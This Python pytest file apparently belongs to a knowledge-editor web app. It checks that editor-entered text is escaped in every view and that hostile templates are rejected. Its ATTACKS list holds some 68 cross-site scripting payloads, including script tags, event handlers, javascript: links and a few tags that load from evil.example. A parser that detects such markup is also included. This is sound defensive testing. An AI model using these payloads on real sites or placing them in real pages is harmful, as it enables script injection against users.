"""What editors write is text wherever it is shown, and no template gets further than its rules."""

import json
import re
from collections.abc import AsyncIterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from tests.knowledge.samples import shipped
from tests.knowledge.test_template_rules import HOSTILE
from tests.product import Clock
from tests.web.editors import Json, Room, body_of, looked_at, room

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "</script><script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0c>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=`x` onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example><input name=csrf></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<div style=background:url(javascript:alert(1))>x</div>",
    "<p onmouseover=alert(1)>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--<script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '" onfocus=alert(1) autofocus="',
    "' onfocus=alert(1) autofocus='",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>'",
    "` onmouseover=alert(1) `",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:alert(1))",
    "![x](x' onerror=alert(1))",
    "<https://evil.example/'onmouseover=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
]
VIEWS = (
    *("/editor", "/editor?only=draft", "/editor?topic=x", "/editor/entries/late-fee"),
    *("/editor/entries/refund", "/editor/publish", "/editor/golden", "/editor/messages"),
    *("/editor/policy/hours", "/editor/policy/payment", "/editor/versions", "/editor/try"),
)
SAFE_TAGS_WITH_SCRIPT = ("application/json", "module")


class Page(HTMLParser):
    """Finds what could run: scripts without our kind, handlers, foreign addresses."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag == "script" and given.get("type") not in SAFE_TAGS_WITH_SCRIPT:
            self.faults.append(f"<script {given}>")
        if tag in ("iframe", "object", "embed", "base", "style", "img", "marquee", "math"):
            self.faults.append(f"<{tag}>")
        for name, value in given.items():
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "autofocus"):
                self.faults.append(f"{tag} {name}={value}")
            address = (value or "").strip().lower()
            if name in ("href", "src", "action") and not address.startswith(("/", "#", "?")):
                self.faults.append(f"{tag} {name}={value}")


@pytest.fixture
async def house(sqlite_url: str, clock: Clock, tmp_path: Path) -> AsyncIterator[Room]:
    async with room(sqlite_url, clock, tmp_path) as made:
        yield made


def hostile_entry(attack: str) -> Json:
    """Each field that takes text."""
    line = " ".join(attack.split())[:190]
    return {
        "topic": line,
        "questions": {"en": [line, f"{line}?"], "zh": [line]},
        "answer": {"en": attack, "zh": attack},
        "follow_ups": [line, "refund"],
        "owner": line,
        "review_by": line,
        "valid_from": line,
        "valid_until": line,
        "labels": [line],
        "route": line,
    }


def in_every_text(value: Any, attack: str) -> Any:
    if isinstance(value, dict):
        return {key: in_every_text(each, attack) for key, each in value.items()}
    if isinstance(value, list):
        return [in_every_text(each, attack) for each in value]
    return attack if isinstance(value, str) else value


async def views(house: Room) -> AsyncIterator[tuple[str, str]]:
    for path in VIEWS:
        yield path, await house.paula.reads(path)


@pytest.mark.parametrize("number", range(0, len(ATTACKS), 6))
async def test_nothing_written_runs_in_any_view(house: Room, number: int) -> None:
    assert len(ATTACKS) >= 60
    content = shipped()
    for revision, attack in enumerate(ATTACKS[number : number + 6]):
        entry = hostile_entry(attack)
        for part in ("entry/late-fee", "entry/refund"):
            await house.erik.saves(part, entry, based_on=revision)
        policy = in_every_text(content.policy.model_dump(mode="json"), attack)
        await house.erik.saves("policy", policy, based_on=revision)
        messages = in_every_text(content.messages.model_dump(mode="json"), attack)
        await house.erik.saves("messages", messages, based_on=revision)
        asked = await house.erik.tries(
            "/editor/golden/add", question=" ".join(attack.split()), expected=["late-fee"]
        )
        assert asked.status == 200
        async for path, text in views(house):
            assert Page(text).faults == [], (path, attack)
            for script in re.findall(
                r'<script type="application/json"[^>]*>(.*?)</script>', text, re.DOTALL
            ):
                json.loads(script)
                assert not re.search("[<>&]", script), (path, attack)
        for query in ("q", "topic", "only", "sort", "most"):
            found = await house.erik.staff.get("/editor", params={query: attack})
            assert Page(await found.text()).faults == [], (query, attack)


async def test_what_was_published_is_text_in_every_view_of_it(house: Room) -> None:
    shown = " ".join(each for each in ATTACKS if "{" not in each and "[" not in each)[:3000]
    one_line = " ".join(ATTACKS[0].split())
    body = body_of("{% raw %}x{% endraw %}", labels=[one_line])
    body["questions"]["en"].append('"><script>alert(1)</script>')
    await house.erik.saves("entry/late-fee", body)
    ready = await house.paula.prepares()
    done = await house.paula.tries(
        "/editor/publish", **looked_at(ready), note=shown[:2000], reason=one_line
    )
    assert done.status == 200, await done.text()
    for path in ("/editor/versions", "/editor/versions/2", "/editor/publish", "/editor/golden"):
        assert Page(await house.paula.reads(path)).faults == [], path
    old = await house.henry.reads("/editor/versions/2/entries/late-fee")
    assert Page(old).faults == [] and "&lt;script&gt;" in old


async def test_what_a_person_is_called_is_text_too(house: Room) -> None:
    await house.erik.saves("entry/late-fee", body_of("One."))
    told = await house.paula.tries(
        "/editor/drafts/entry/late-fee", body=body_of("Two."), based_on=0, version=1
    )
    assert told.content_type == "application/json"
    assert told.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("number", range(0, len(HOSTILE), 20))
async def test_a_hostile_template_is_refused_with_its_line(house: Room, number: int) -> None:
    assert len(HOSTILE) >= 60
    for template in HOSTILE[number : number + 20]:
        source = f"Hello.\n\n{template}\n"
        seen = await house.erik.looks("late-fee", body_of(source))
        lines = [each["line"] for each in seen["findings"] if each["field"] == "answer.en"]
        assert lines and all(3 <= line <= 5 for line in lines), template
        assert seen["previews"]["en"]["web"] is None, template
        texts = {"welcome": {"en": source, "zh": "好"}}
        body = {"common_questions": [], "messages": texts}
        told = await house.erik.does("/editor/messages/look", body=body)
        at = {each["line"] for each in told["problems"] if "welcome" in each["field"]}
        assert at and all(3 <= line <= 5 for line in at), template
        assert "messages.welcome.en" not in told["shown"], template


async def test_a_hostile_template_is_not_published(house: Room) -> None:
    for revision, template in enumerate(HOSTILE[:10]):
        await house.erik.saves("entry/late-fee", body_of(f"Hi.\n{template}"), based_on=revision)
        ready = await house.paula.prepares(("entry/late-fee", revision + 1))
        assert ready["golden"] is None
        assert any("Line 2" in each["message"] for each in ready["problems"]), template
        refused = await house.paula.tries("/editor/publish", **looked_at(ready), reason="I want it")
        assert refused.status == 422
